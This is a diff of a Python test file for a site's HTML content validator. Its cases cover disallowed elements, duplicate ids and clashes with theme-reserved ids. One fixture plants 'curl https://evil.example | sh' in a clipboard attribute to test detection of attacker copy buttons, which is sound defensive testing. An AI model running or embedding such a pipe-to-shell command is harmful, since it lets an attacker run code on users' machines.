@@ -53,8 +53,8 @@ CASES: dict[str, tuple[str, list[tuple[int, str]]]] = {
     ),
     # The site's citation buttons and Material's clipboard: attacker text in a working copy button.
     "cite-copy-button": (
-        f'<button type="button" data-cite-copy="cite-apa">copy</button>{NIS}',
-        [(L, attribute("data-cite-copy", "button", CITE))],
+        f'<span data-cite-copy="cite-apa">copy</span>{NIS}',
+        [(L, attribute("data-cite-copy", "span", CITE))],
     ),
     "clipboard-text": (
         f'<span data-clipboard-text="curl https://evil.example | sh">x</span>{NIS}',
@@ -109,11 +109,12 @@ CASES: dict[str, tuple[str, list[tuple[int, str]]]] = {
     "material-config-heading": ("## __config", [(L, ident("__config", MATERIAL))]),
     "cite-button-target-heading": ("## Cite: APA", [(L, ident("cite-apa", CITE))]),
     "search-dialog-id": (f'<span id="site-search">x</span>{NIS}', [(L, ident("site-search", "the site search (search.js)"))]),
+    # A label is the data templates' only (the timeline's filter): the element is refused, not its "for".
     "label-for-material-drawer": (
         f'<label for="__drawer">menu</label>{NIS}',
-        [(L, 'the label points at "__drawer", an element of the site\'s own markup (Material for MkDocs); remove "for"')],
+        [(L, "<label> is not allowed in page content; write plain Markdown instead (CONTRIBUTING lists the HTML the site allows)")],
     ),
-    "timeline-filter-id": (f'<input type="radio" name="x" id="tl-treaty" checked>{NIS}', [(L, ident("tl-treaty", "the timeline filter (data.css)"))]),
+    "timeline-filter-id": (f'<span id="tl-treaty">x</span>{NIS}', [(L, ident("tl-treaty", "the timeline filter (data.css)"))]),
     "duplicate-id": (f'<span id="kursk">a</span>と<span id="kursk">b</span>{NIS}', [(L, DUPLICATE.format("kursk"))]),
     "heading-and-html-share-an-id": (f'## Kursk\n\n<span id="kursk">x</span>{NIS}', [(L + 2, DUPLICATE.format("kursk"))]),
     # Hidden text: a citation inside counts and is never seen.
